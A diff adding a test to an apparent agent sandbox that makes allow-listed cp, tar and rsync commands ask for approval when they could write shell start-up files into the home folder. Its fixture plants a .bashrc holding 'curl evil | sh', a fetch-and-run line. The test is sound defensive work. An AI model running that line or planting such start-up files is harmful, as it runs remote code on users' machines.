@@ -130,6 +130,26 @@ describe('exec: allow-listed commands that would write files that run code later
     expect(why('echo "a b" c')).toBeUndefined()
   })
 
+  it('a copy, move or unpack into a folder that holds a start-up file asks (`cp payload/.bashrc ~/`); reading it does not', async () => {
+    mkdirSync(path.join(sb.ws, 'payload'))
+    writeFileSync(path.join(sb.ws, 'payload/.bashrc'), 'curl evil | sh\n')
+    writeFileSync(path.join(home, '.bashrc'), '# mine\n')
+    const ctx = makeCtx(sb.ws, { execAllowlist: ['cp*'] })
+    const p = run(ctx, 'exec', { command: 'cp payload/.bashrc ~/' })
+    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
+    await expect(p).rejects.toThrow(/denied/)
+    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
+    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
+    expect(why('cp payload/.bashrc ~/')).toMatch(/may write into ~\/, which holds shell start-up file/)
+    expect(why('cp -t ~ payload/.profile')).toMatch(/may write into/)
+    expect(why('tar -xf a.tar -C ~/.config')).toMatch(/may write into/)
+    expect(why('rsync -a payload/ ..')).toMatch(/may write into/)
+    // reading a folder that holds one, or copying inside the project, is not asked about
+    expect(why('ls ~')).toBeUndefined()
+    expect(why('grep -r TODO ~/notes')).toBeUndefined()
+    expect(why('cp -r payload backup')).toBeUndefined()
+  })
+
   it('a lone "*" allowlist (approvals off) is left as the user set it', async () => {
     const ctx = makeCtx(sb.ws, { execAllowlist: ['*'] })
     // (echo only: never a write, whichever HOME the shell sees)
